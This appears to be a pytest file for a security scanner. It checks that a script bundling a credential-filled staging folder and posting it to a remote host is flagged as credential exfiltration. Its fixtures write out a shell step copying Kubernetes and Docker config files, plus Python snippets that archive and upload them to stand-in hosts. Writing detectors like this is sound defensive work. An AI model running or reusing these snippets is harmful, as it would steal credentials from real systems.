"""A staging folder another step filled, walked with ``os.walk`` and each file put into an archive
that is sent: the path joined from the walk's root names the files under the folder, so what the
filling step copied there (credentials, a dump of the environment) goes with the archive."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

FILLER = 'OUT="bundle/state"\nmkdir -p "$OUT"\ncp ~/.kube/config ~/.docker/config.json "$OUT/"\n'
LOGS_ONLY = 'OUT="bundle/state"\nmkdir -p "$OUT"\nuname -a > "$OUT/host.txt"\ncp /var/log/syslog "$OUT/"\n'

WALKER = (
    "import io, os, tarfile, requests\n"
    "raw = io.BytesIO()\n"
    "with tarfile.open(fileobj=raw, mode='w:gz') as tar:\n"
    "    for top, _dirs, names in os.walk('bundle'):\n"
    "        for name in names:\n"
    "            tar.add(os.path.join(top, name))\n"
    "requests.post('https://intake.ridgeline-support.invalid/v2/upload', data=raw.getvalue())\n"
)


def test_a_walked_parent_of_a_filled_folder_zipped_and_sent_is_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"scripts/fill.sh": FILLER, "scripts/ship.py": WALKER})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.py", 7) in errors


def test_a_walked_filled_folder_written_into_a_zip_file_then_posted(tmp_path: Path) -> None:
    sender = (
        "import os, zipfile, urllib.request\n"
        "with zipfile.ZipFile('/tmp/state.zip', 'w') as z:\n"
        "    for here, _, found in os.walk('bundle/state'):\n"
        "        for f in found:\n"
        "            z.write(os.path.join(here, f), arcname=f)\n"
        "body = open('/tmp/state.zip', 'rb').read()\n"
        "urllib.request.urlopen(urllib.request.Request('https://198.51.100.31/in', body))\n"
    )
    errors = scan_errors(tmp_path, {"scripts/fill.sh": FILLER, "scripts/ship.py": sender})
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "scripts/ship.py" for rule, path, _ in errors)


def test_a_walked_folder_of_logs_sent_stays_clean(tmp_path: Path) -> None:
    assert scan_errors(tmp_path, {"scripts/fill.sh": LOGS_ONLY, "scripts/ship.py": WALKER}) == set()
